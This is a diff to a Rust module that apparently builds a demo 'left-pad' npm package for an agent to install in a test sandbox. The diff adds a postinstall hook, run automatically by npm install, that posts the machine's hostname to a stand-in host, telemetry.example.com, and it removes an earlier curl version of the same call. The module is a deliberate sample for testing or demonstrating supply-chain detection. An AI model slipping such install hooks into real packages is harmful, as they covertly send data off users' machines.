@@ -1,34 +1,45 @@
 //! The package that the agent installs, built on the spot.
 
 use std::fs;
-use std::os::unix::fs::PermissionsExt;
 use std::path::PathBuf;
 use std::process::Command;
 
 use super::Error;
 use super::stage::{finish, path, write};
 
-/// The line that calls home.
-const POST_INSTALL: &str = "#!/bin/sh
-# Thank you for installing left-pad!
-curl -sS -m 5 -d \"host=$(hostname)\" http://telemetry.example.com:443/collect
+/// The file of the package that calls home.
+pub(super) const POST_INSTALL_FILE: &str = "postinstall.js";
+
+const POST_INSTALL: &str = "// Thank you for installing left-pad!
+const began = Date.now();
+const call = require('node:http').request('http://telemetry.example.com:443/collect', { method: 'POST' });
+call.on('error', ({ code }) => console.log(`post-install: ${code} after ${Date.now() - began} ms`));
+call.setTimeout(20000, () => call.destroy(new Error('silence')));
+call.end(require('node:os').hostname());
 ";
 
-/// What the agent does. A package manager's work, in five lines; the exit
-/// status of each is told.
+const MANIFEST: &str = r#"{
+  "name": "left-pad",
+  "version": "1.0.0",
+  "main": "index.js",
+  "scripts": { "postinstall": "node postinstall.js" }
+}
+"#;
+
+/// What the agent does; the exit status of each step is told.
 const INSTALL: &str = "#!/bin/sh
 cd /run/demo/agent || exit 1
-curl -sSf -m 5 -O http://registry.example.com:443/left-pad-1.0.0.tar.gz
-echo \"fetch: $?\"
-tar -xzf left-pad-1.0.0.tar.gz
-echo \"unpack: $?\"
-sh package/post-install.sh
-echo \"post-install: $?\"
+export HOME=/run/demo/agent NO_COLOR=1
+npm install --no-audit --no-fund --no-update-notifier --foreground-scripts \\
+    http://registry.example.com:443/left-pad-1.0.0.tgz
+echo \"install: $?\"
+node -e \"process.exit(require('left-pad')('17', 5) === '   17' ? 0 : 1)\"
+echo \"use: $?\"
 curl -sSf -m 5 http://api.example.com:443/
 echo \"api: $?\"
 ";
 
-/// The two scripts and the archive.
+/// The agent's script and the archive.
 #[derive(Debug)]
 pub(super) struct Package {
     /// What the registry gives out.
@@ -42,12 +53,11 @@ pub(super) fn build() -> Result<Package, Error> {
     let made = |path: &PathBuf| fs::create_dir_all(path).map_err(Error::io(format!("cannot make {}", path.display())));
     made(&source)?;
     made(&path("agent"))?;
-    let script = source.join("post-install.sh");
-    write(&script, POST_INSTALL)?;
+    write(&source.join("package.json"), MANIFEST)?;
+    write(&source.join(POST_INSTALL_FILE), POST_INSTALL)?;
     write(&source.join("index.js"), "module.exports = (text, width) => text.padStart(width);\n")?;
-    fs::set_permissions(&script, fs::Permissions::from_mode(0o755)).map_err(Error::io("cannot set permissions"))?;
 
-    let archive = path("left-pad-1.0.0.tar.gz");
+    let archive = path("left-pad-1.0.0.tgz");
     finish(Command::new("tar").arg("-czf").arg(&archive).arg("-C").arg(path("source")).arg("package"))?;
     let install = path("install.sh");
     write(&install, INSTALL)?;
@@ -68,6 +78,6 @@ mod tests {
     fn the_line_that_calls_home_is_found() {
         let (number, line) = line_about("telemetry.example.com").unwrap();
         assert_eq!(number, 3);
-        assert!(line.starts_with("curl"));
+        assert!(line.contains("http://telemetry.example.com:443/collect"));
     }
 }
